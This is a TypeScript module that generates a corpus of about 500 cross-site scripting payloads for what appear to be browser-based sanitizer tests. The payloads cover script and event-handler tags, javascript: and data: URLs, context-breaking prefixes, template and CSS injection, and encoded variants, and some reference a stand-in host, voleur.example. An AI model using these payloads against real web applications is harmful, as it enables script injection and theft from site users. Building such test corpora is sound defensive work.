import { combined, spread, unique } from './combined.ts';

/** What a script does when it runs: each leaves a trace that a browser test looks for. */
const ACTS = ['alert(1)', 'window.pwned=1', "document.body.id='pwned'"];
/** What must be closed before markup begins: text, attribute, comment, script, style, textarea. */
const BREAKERS = [
  '',
  '">',
  "'>",
  '-->',
  '</script>',
  '</style>',
  '</textarea></title>',
  ']]>',
  '\\">',
  '</p></div>',
];
const EVENTS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbegin'];

const ELEMENTS = ACTS.flatMap(act => [
  `<script>${act}</script>`,
  `<ScRiPt >${act}</sCrIpT>`,
  `<script src="data:text/javascript,${act}"></script>`,
  `<img src=x onerror=${act}>`,
  `<img/src=x/onerror=${act}//`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${act}></mtext></math>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<details open ontoggle=${act}>x</details>`,
  `<input autofocus onfocus=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<body onload=${act}>`,
  `<link rel=stylesheet href="javascript:${act}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  `<base href="javascript:${act}//">`,
  `<form action="javascript:${act}"><button>x</button></form>`,
  `<template><img src=x onerror=${act}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<style>*{animation:x}@keyframes x{}</style><b onanimationstart=${act}>`,
  `<a href="javascript:${act}">x</a>`,
  `<a href="java\tscript:${act}">x</a>`,
  `<x-pwned onclick=${act}>x</x-pwned>`,
]);
const ATTRIBUTES = combined(['" ', "' ", '` ', '"/', '" x="" ', "'/"], EVENTS, [
  '=alert(1) x="',
  '=window.pwned=1//',
  '="alert(1)" autofocus tabindex=1 x="',
]);
const ADDRESSES = combined(
  [
    'javascript:',
    'JaVaScRiPt:',
    'java\nscript:',
    '\u0001javascript:',
    'javascript&colon;',
    'javascript://%0a',
    'data:text/html,',
    'data:image/svg+xml,<svg onload=',
    'vbscript:',
    '//voleur.example/?',
  ],
  ACTS,
);
/** Where a text is taken for Markdown, a template or a style sheet on its way to the page. */
const MARKUP = [
  ...combined(['[x](', '![x](', '<', '[x]: '], ['javascript:'], ACTS, [')', '>']),
  ...combined(['{{', '${', '<%=', '#{', '[[', '{!!', '@{'], ACTS, ['}}', '}', '%>', ']]', '!!}']),
  ...combined(
    ['</style><style>*{', 'x;', '}*{', 'expression(', '";}'],
    ['background:url(javascript:alert(1))', "behavior:url('#x')", '@import "//voleur.example/x.css"'],
    ['', '}'],
  ),
];
const INSIDE_SCRIPT = [
  "';alert(1);//",
  '";alert(1);//',
  '${alert(1)}',
  '</script><script>alert(1)</script>',
  '\u2028alert(1)//',
  '{{constructor.constructor("alert(1)")()}}',
  '<!--<script>alert(1)//',
];
const ENCODED = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '&#60;img src=x onerror=alert(1)&#62;',
];

/** Texts that are a script in one place or another, 500 of them good for a name: made by combination, not collected. */
export const SCRIPTS: string[] = unique([
  ...ELEMENTS,
  ...spread(
    combined(
      BREAKERS.slice(1),
      ELEMENTS.filter(text => text.length < 65),
    ),
    240,
  ),
  ...spread(ATTRIBUTES, 90),
  ...ADDRESSES,
  ...spread(MARKUP, 110),
  ...INSIDE_SCRIPT,
  ...ENCODED,
]);
